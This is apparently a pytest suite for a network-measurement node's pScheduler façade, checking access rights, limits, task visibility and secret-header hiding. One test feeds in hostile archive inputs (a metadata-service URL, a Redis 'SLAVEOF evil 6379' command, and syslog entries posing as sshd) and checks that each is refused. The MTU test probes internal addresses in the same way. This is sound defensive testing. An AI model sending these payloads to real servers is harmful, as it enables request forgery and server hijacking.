"""The façade of a node without a lead: who may do what, and what is told of runs."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any
from uuid import UUID

import pytest
import pytest_asyncio

from node.execution import path_mtu, targets
from node.execution.path_mtu import PathMtu
from node.model import times
from node.model.host_limits.document import DEFAULT
from node.pscheduler.listener import listening
from node.pscheduler.requesters import Gate
from node.pscheduler.telling import interval_id, unplaced_id
from node.runtime.settings import Settings
from node.trust.sealing import POSTED, SealingKey
from tests.conftest import NewDatabase
from tests.support.clocks import START, ManualClock
from tests.support.loopback import free_port
from tests.support.pscheduler.command import CommandLine
from tests.support.served_nodes import Asker, asker

IDLE: dict[str, Any] = {
    "test": {"type": "idle", "spec": {"duration": "PT1S"}},
    "schedule": {"start": "PT1H", "slip": "PT5M"},
}


@pytest_asyncio.fixture
async def node(
    new_database: NewDatabase, clock: ManualClock, tmp_path: Path
) -> AsyncIterator[Asker]:
    """A node with the façade; nothing is planned or measured."""
    limits = tmp_path / "limits.toml"
    limits.write_text(LIMITS)
    dsn, place = await new_database(), f"*:{free_port()}"
    settings = {
        "pscheduler_listen": place,
        "pscheduler_allow": "127.0.0.0/30",
        "pscheduler_read": "127.0.0.0/31 192.0.2.0/24",
        "limits": limits,
    }
    async with (
        asker("a", dsn, clock, tmp_path, tls=True, **settings) as served,
        listening(served.node),
    ):
        yield served


LIMITS = """
version = 1

[who.outside]
tokens = ["pscheduler:127.0.0.1"]

[[rule]]
name = "outside"
who = ["outside"]
tests = ["idle", "idlebg", "latency", "latencybg"]
duration_max = "PT5M"
"""


def command_of(node: Asker, host: str = "127.0.0.1") -> CommandLine:
    """Return the command line of a client on this host, which reaches the node by an address."""
    port = (node.node.settings.pscheduler_listen or "").rpartition(":")[2]
    return CommandLine(f"{host}:{port}")


async def posted(command: CommandLine, **changes: Any) -> str:
    """Post a task and return its URL."""
    reply = await command.request("POST", command.url("/tasks"), body={**IDLE, **changes})
    assert reply.status == 200, reply
    return str(reply.json)


async def owned(node: Asker, method: str, path: str, document: object = None) -> Any:
    """Return what the node answers its owner, who is on its host."""
    url = f"http://{node.node.settings.listen}{path}"
    async with node.session.request(method, url, json=document) as response:
        assert response.ok, await response.text()
        return await response.json()


def test_addresses_have_the_rights_of_their_networks() -> None:
    """By default nobody writes or reads, not even this host; the owner adds networks."""
    closed = Gate(Settings().pscheduler_writers, Settings().pscheduler_readers)
    here, other = closed.requester("::ffff:127.0.0.1"), closed.requester("192.0.2.7")
    assert (here.may_write, here.may_read, here.label) == (False, False, "pscheduler:127.0.0.1")
    assert (other.may_write, other.may_read) == (False, False)
    settings = Settings(pscheduler_allow="192.0.2.0/25", pscheduler_read="2001:db8::/32")
    opened = Gate(settings.pscheduler_writers, settings.pscheduler_readers)
    writer, reader = opened.requester("192.0.2.7"), opened.requester("2001:db8::1%eth0")
    assert (writer.may_write, writer.may_read, writer.sole_address) == (True, True, "192.0.2.7")
    assert (reader.may_write, reader.may_read, reader.sole_address) == (False, True, None)
    assert not opened.requester("192.0.2.200").may_read
    assert not opened.requester("127.0.0.1").may_write


async def test_limits_of_users_apply(node: Asker) -> None:
    """A client's address is a user of the limits, and the refusal says what they allow."""
    assert "is alive" in await command_of(node, "[::1]").ping()
    command = command_of(node)
    await posted(command)
    long = {"type": "idle", "spec": {"duration": "PT1H"}}
    reply = await command.request("POST", command.url("/tasks"), body={**IDLE, "test": long})
    assert (reply.status, reply.content_type) == (403, "text/plain")
    assert reply.text.startswith("Task forbidden by limits:\n")
    rows = await node.rows("SELECT verb, principal, outcome FROM audit ORDER BY id")
    assert [tuple(row) for row in rows][:1] == [
        ("pscheduler_create", "pscheduler:127.0.0.1", "done")
    ]


@pytest.mark.parametrize("test", ["clock", "throughput", "simplestream"])
async def test_a_dest_that_is_no_node_cannot_be_measured(node: Asker, test: str) -> None:
    """A valid spec whose dest is not known here is refused (422), and says what would help."""
    command = command_of(node)
    spec = {"dest": "192.0.2.99"}
    task = {**IDLE, "test": {"type": test, "spec": spec}}
    reply = await command.request("POST", command.url("/tasks"), body=task)
    assert (reply.status, reply.content_type) == (422, "text/plain"), reply
    assert reply.text.startswith("Unable to complete request: No node 192.0.2.99 is known here")


@pytest.mark.parametrize(("test", "tool"), [("latency", "owping"), ("latencybg", "powstream")])
async def test_one_way_delays_to_a_host_that_is_no_node_are_measured_by_owamp(
    node: Asker, test: str, tool: str
) -> None:
    """A dest that is not known here is asked by OWAMP, with the tool's name of pScheduler."""
    command = command_of(node)
    for more in ({}, {"tools": [tool]}):
        spec = {"dest": "192.0.2.99"} | ({"duration": "PT1M"} if test == "latencybg" else {})
        url = await posted(command, test={"type": test, "spec": spec}, **more)
        listed = await owned(node, "GET", f"/v1/tasks/{url.rpartition('/')[2]}")
        assert listed["test"]["spec"]["responder"] == "owamp"
        assert [each["name"] for each in listed["participants"]] == ["a"]
        assert listed["tool"] == tool


async def test_other_networks_are_refused_in_words(
    new_database: NewDatabase, clock: ManualClock, tmp_path: Path
) -> None:
    """A caller who may not write is told what the owner allows, and plain HTTP is not served."""
    dsn, place = await new_database(), f"127.0.0.1:{free_port()}"
    settings = {"pscheduler_listen": place, "pscheduler_allow": "192.0.2.0/24"}
    async with (
        asker("a", dsn, clock, tmp_path, tls=True, **settings) as node,
        listening(node.node),
    ):
        command = command_of(node)
        reply = await command.request("POST", command.url("/tasks"), body=IDLE)
        assert (reply.status, reply.content_type) == (403, "text/plain")
        assert "PARLEY_PSCHEDULER_ALLOW" in reply.text
        listing = await command.request("GET", command.url("/tasks"))
        assert listing.status == 403
        plain = await command.request("GET", f"http://{place}/pscheduler/")
        assert (plain.status, plain.content_type) == (400, "text/plain")
        await node.node.audit.flush()
        rows = await node.rows("SELECT verb, kind::text, outcome::text FROM audit")
        assert [tuple(row) for row in rows] == [
            ("pscheduler_create", "stranger", "refused"),
            ("pscheduler_list_tasks", "stranger", "refused"),
        ]


async def test_only_what_was_posted_is_changed(node: Asker) -> None:
    """A task of the node's own API is told, in the words of pScheduler, but never changed."""
    command = command_of(node)
    document = {
        "test": {"type": "rtt", "spec": {"dest": "192.0.2.7", "count": 3}},
        "schedule": {"repeat": "PT1H"},
        "reference": {"mesh": "wide"},
    }
    task = await owned(node, "POST", "/v1/tasks", document)
    url = command.url(f"/tasks/{task['id']}")
    shown = await command.get(url, detail=True)
    assert shown["test"]["type"] == "rtt"
    assert shown["test"]["spec"]["dest"] == "192.0.2.7"
    assert shown["schedule"]["repeat"] == "PT1H"
    assert shown["detail"]["cli"][:1] == ["--count"]
    reply = await command.request("DELETE", url)
    assert reply.status == 403
    assert (await owned(node, "GET", f"/v1/tasks/{task['id']}"))["state"] == "active"
    await posted(command)
    page = await owned(node, "GET", "/v1/tasks?requester=pscheduler:127.0.0.1")
    assert len(page["items"]) == 1


async def test_a_run_without_time_does_not_start_for_now(node: Asker, clock: ManualClock) -> None:
    """A slot that found no time is told as a non-starter, with until when it is still tried."""
    command = command_of(node)
    url = await posted(command)
    task = UUID(url.rpartition("/")[2])
    slot = START + times.HOUR
    await node.rows(_WAITING, task, slot)
    run = await command.get(f"{url}/runs/first", wait=0)
    assert (run["state"], run["state-display"]) == ("nonstart", "Non-Starter")
    until = times.to_the_second(slot + 5 * times.MINUTE)
    assert run["errors"] == f"b has no time; still trying until {until}"
    assert await command.get(f"{url}/runs") == []
    [(known,)] = await node.rows("SELECT id FROM run")
    assert UUID(run["href"].rpartition("/")[2]) == unplaced_id(known)
    assert (await command.get(run["href"]))["errors"] == run["errors"]


async def test_intervals_of_long_runs_are_runs(node: Asker, clock: ManualClock) -> None:
    """Each interval of a long run is a finished run of no length, and the run itself goes on."""
    command = command_of(node)
    url = await posted(command, test={"type": "idlebgm", "spec": {"duration": "PT30S"}})
    task = UUID(url.rpartition("/")[2])
    await node.rows(_RUNNING, task, START, START + times.MINUTE)
    [(run,)] = await node.rows("SELECT id FROM run")
    for number in range(2):
        begins = START + number * 10 * times.SECOND
        await node.rows(_INTERVAL, run, number, begins, begins + 10 * times.SECOND)
    shown = await command.get(url, detail=True)
    assert shown["detail"]["multi-result"] is True
    [listed] = await command.get(command.url("/tasks"), detail=True, expanded=True)
    # The agent of psConfig posts a stream anew that has no more than two runs for long.
    assert (shown["detail"]["runs"], listed["detail"]["runs"]) == (3, 3)
    told = [await command.get(each) for each in await command.get(f"{url}/runs")]
    states = {each["href"].rpartition("/")[2]: each["state"] for each in told}
    assert states == {
        str(run): "running",
        str(interval_id(run, 0)): "finished",
        str(interval_id(run, 1)): "finished",
    }
    assert all(
        each["start-time"] == each["end-time"] for each in told if each["state"] == "finished"
    )


_WAITING = """
INSERT INTO run (
    id, task_id, slot, attempt, scheduling_class, priority, starts_at, ends_at, state, reason,
    created_at, changed_at
)
VALUES (
    gen_random_uuid(), $1, $2, 1, 'background', 0, $2, $2::timestamptz + interval '2 s', 'waiting',
    'b has no time', $2, $2
)
"""
_RUNNING = """
INSERT INTO run (
    id, task_id, slot, attempt, scheduling_class, priority, starts_at, ends_at, state, started_at,
    created_at, changed_at
)
VALUES (gen_random_uuid(), $1, $2, 1, 'background-multi', 0, $2, $3, 'running', $2, $2, $2)
"""
_INTERVAL = """
INSERT INTO run_interval (run_id, number, starts_at, ends_at, result, merged_at)
VALUES ($1, $2, $3, $4, '{"duration_ms": 10000, "participants": 1}', $4)
"""


async def test_archives_of_clients_are_those_of_the_owner(
    new_database: NewDatabase, clock: ManualClock, tmp_path: Path
) -> None:
    """A client names the archives that the owner has named, no others, and not as a proposal."""
    settings = {
        "pscheduler_listen": f"127.0.0.1:{free_port()}",
        "pscheduler_allow": "127.0.0.0/8",
        "pscheduler_archives": "http://127.0.0.1:9/in syslog",
    }
    async with (
        asker("a", await new_database(), clock, tmp_path, tls=True, **settings) as node,
        listening(node.node),
    ):
        command = command_of(node)
        await posted(
            command, archives=[{"archiver": "http", "data": {"_url": "http://127.0.0.1:9/in"}}]
        )
        raw = {"script": '"SLAVEOF evil 6379"', "output-raw": True}
        for archive in (
            {"archiver": "http", "data": {"_url": "http://169.254.169.254/latest", "op": "put"}},
            {"archiver": "tcp", "data": {"host": "127.0.0.1", "port": 6379}, "transform": raw},
            {
                "archiver": "postgresql",
                "data": {"_dsn": "dbname=x user=y", "table": "t", "column": "c"},
            },
            {"archiver": "syslog", "data": {"ident": "sshd", "facility": "auth"}},
        ):
            task = {**IDLE, "archives": [archive]}
            reply = await command.request("POST", command.url("/tasks"), body=task)
            assert (reply.status, reply.text[:26]) == (403, "Task forbidden by limits:\n"), reply
            proposed = await command.get(command.url("/limits"), proposal=json.dumps(task))
            assert proposed["passed"] is False
        assert len(await node.rows("SELECT FROM task")) == 1


async def test_a_client_sees_and_ends_its_own_tasks_only(
    new_database: NewDatabase, clock: ManualClock, tmp_path: Path
) -> None:
    """A client sees and ends what was posted from its address; networks that may read see all."""
    settings = {
        "pscheduler_listen": f"127.0.0.1:{free_port()}",
        "pscheduler_allow": "127.0.0.0/30",
        "pscheduler_read": "127.0.0.9",
    }
    async with (
        asker("a", await new_database(), clock, tmp_path, tls=True, **settings) as node,
        listening(node.node),
    ):
        one, two, reader, nobody = (
            CommandLine(settings["pscheduler_listen"], f"127.0.0.{number}")
            for number in (1, 2, 9, 17)
        )
        url, keyed = await posted(one), await posted(one, _key="k")
        await node.rows(_WAITING, UUID(url.rpartition("/")[2]), START + times.HOUR)
        for path in ("", "/runs", "/runs/first", "/runs/first/result", "/cli"):
            for asked in (url, keyed):
                assert (await two.request("GET", f"{asked}{path}", {"wait": 0})).status == 403
            assert (await nobody.request("GET", f"{url}{path}")).status == 403
        assert (await two.request("GET", keyed, {"key": "k"})).status == 200
        assert (await two.request("DELETE", url)).status == 403
        for path in ("/tasks", "/schedule", "/monitor"):
            assert await two.get(two.url(path)) == [], path
            assert await reader.get(reader.url(path)) == await one.get(one.url(path)), path
            assert (await nobody.request("GET", nobody.url(path))).status == 403
        for path in ("/mtu-safe?dest=127.0.0.1", f"/limits?proposal={json.dumps(IDLE)}"):
            assert (await reader.request("GET", reader.url(path))).status == 403
        assert (await one.request("DELETE", url)).status == 200


async def test_a_key_that_cannot_be_read_is_not_none(node: Asker) -> None:
    """A task with a key is changed by nobody while this node cannot read it."""
    command = command_of(node)
    url = await posted(command, _key="of the task")
    lost = SealingKey.generate().seal("of the task", POSTED)
    await node.rows("UPDATE pscheduler_task SET key = $1", lost)
    for query in ({}, {"key": "of the task"}):
        assert (await command.request("DELETE", url, query)).status == 403


async def test_a_client_finds_no_inner_host_by_its_path(
    node: Asker, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A client's search for the MTU of a path obeys the rules for targets, after the look-up."""
    sent: list[str] = []

    async def find(address: str, *_: object) -> PathMtu:
        sent.append(address)
        return PathMtu(1500, 1500)

    named = {"inner.example": "10.77.0.9", "outer.example": "198.51.100.7"}
    monkeypatch.setattr(path_mtu, "find", find)
    monkeypatch.setattr(targets, "_resolve", lambda host, _: [named[host]])
    monkeypatch.setattr(node.node.foreign_targets, "opt_outs", None)
    command = command_of(node)
    for dest in ("10.77.0.9", "169.254.169.254", "127.9.9.9", "inner.example"):
        reply = await command.request("GET", command.url("/mtu-safe"), {"dest": dest})
        assert reply.status == 403, reply
        assert "tasks of users with the role run" in reply.text, reply
    for dest in ("127.0.0.1", "198.51.100.8", "outer.example"):
        assert (await command.get(command.url("/mtu-safe"), dest=dest))["safe"]
    assert sent == ["127.0.0.1", "198.51.100.8", "198.51.100.7"]


@pytest.mark.nightly
async def test_a_client_is_bounded_without_a_file(
    new_database: NewDatabase, clock: ManualClock, tmp_path: Path
) -> None:
    """Without limits a client has a hundred tasks of 64 kB at priority 0, and a token more."""
    settings: dict[str, Any] = {
        "pscheduler_listen": f"127.0.0.1:{free_port()}",
        "pscheduler_allow": "127.0.0.1",
        "limits": tmp_path / "limits.toml",
    }
    settings["limits"].write_text(DEFAULT)
    async with (
        asker("a", await new_database(), clock, tmp_path, tls=True, **settings) as node,
        listening(node.node),
    ):
        command = command_of(node)
        for _ in range(100):
            await posted(command)
        for changes, status in (
            ({}, 429),
            ({"priority": 1}, 403),
            ({"reference": "x" * 65_536}, 413),
        ):
            reply = await command.request("POST", command.url("/tasks"), body={**IDLE, **changes})
            assert reply.status == status, reply
        document = {
            "test": {"type": "rtt", "spec": {"dest": "192.0.2.7"}},
            "schedule": {"repeat": "PT1H"},
            "priority": 7,
        }
        await owned(node, "POST", "/v1/tasks", document)


HUSH = "hush4f1d9c"
_SECRET: dict[str, Any] = {
    "test": {
        "type": "http",
        "spec": {
            "schema": 4,
            "url": "http://203.0.113.9/",
            "headers": {"X-Key": f"{HUSH} ~", "Y": HUSH},
        },
    },
    "schedule": {"start": "PT1H", "slip": "PT5M"},
}
_POSTED = """
SELECT string_agg(row::text, ' ') FROM (
    SELECT pscheduler_task::text FROM pscheduler_task UNION ALL SELECT task::text FROM task
) AS row
"""


async def _told(command: CommandLine, url: str) -> list[Any]:
    """Return the headers of a task as they are told in a list and alone, and all else told."""
    found = await command.get(command.url("/tasks"), expanded=True, detail=True)
    [listed] = [each for each in found if each["href"] == url]
    alone = await command.get(url, detail=True)
    headers = [each["test"]["spec"].pop("headers") for each in (listed, alone)]
    words = await command.request("GET", f"{url}/cli")
    return [*headers, str([listed, alone, words])]


@pytest.mark.nightly
async def test_headers_are_told_to_who_posted_them_only(
    new_database: NewDatabase, clock: ManualClock, tmp_path: Path
) -> None:
    """Headers, also those stored in clear before, are told to who posted them only."""
    settings = {
        "pscheduler_listen": f"127.0.0.1:{free_port()}",
        "pscheduler_allow": "127.0.0.1",
        "pscheduler_read": "127.0.0.9",
    }
    async with (
        asker("a", await new_database(), clock, tmp_path, tls=True, **settings) as node,
        listening(node.node),
    ):
        one, reader = (CommandLine(settings["pscheduler_listen"], f"127.0.0.{n}") for n in (1, 9))
        url = await posted(one, **_SECRET)
        keyed = await posted(one, **_SECRET, _key=f"{HUSH}-key")
        own, mark = _SECRET["test"]["spec"]["headers"], {"X-Key": "(secret)", "Y": "(secret)"}
        rows = await node.rows("SELECT task_id, document, secret FROM pscheduler_task")

        async def check() -> None:
            [[stored]] = await node.rows(_POSTED)
            assert HUSH not in stored
            for asked in (url, keyed):
                *headers, rest = await _told(one, asked)
                assert (headers, HUSH in rest) == ([own, own], False)
                *headers, rest = await _told(reader, asked)
                assert (headers, HUSH in rest) == ([mark, mark], False)
            for wanted, asker_, count in ((own, one, 2), (mark, one, 0), (own, reader, 0)):
                test = {"type": "http", "spec": {"headers": wanted}}
                query = json.dumps({"test": test})
                assert len(await asker_.get(asker_.url("/tasks"), json=query)) == count
            assert (await one.request("GET", keyed, {"key": HUSH})).status == 403
            whole = await reader.get(keyed, key=f"{HUSH}-key")
            assert (whole["_key"], whole["test"]["spec"]["headers"]) == (f"{HUSH}-key", own)

        await check()
        for task, document, whole in rows:
            clear = {**document, "test": _SECRET["test"]}
            spec = {"url": "http://203.0.113.9/", "headers": own}
            await node.rows("UPDATE task SET spec = spec || $2 WHERE id = $1", task, spec)
            await node.rows(_IN_CLEAR, task, clear, whole and {**clear, "_key": f"{HUSH}-key"})
        [[stored]] = await node.rows(_POSTED)
        assert stored.count(HUSH) > len(rows) * 6
        await node.node.unsealed.seal()
        await check()
        await node.node.unsealed.seal()
        await check()


_IN_CLEAR = """
UPDATE pscheduler_task SET
    document = $2, secret = $3, key = $3::jsonb ->> '_key',
    detail = jsonb_set(detail, '{cli}', '["--header", "Y: hush4f1d9c"]')
WHERE task_id = $1
"""
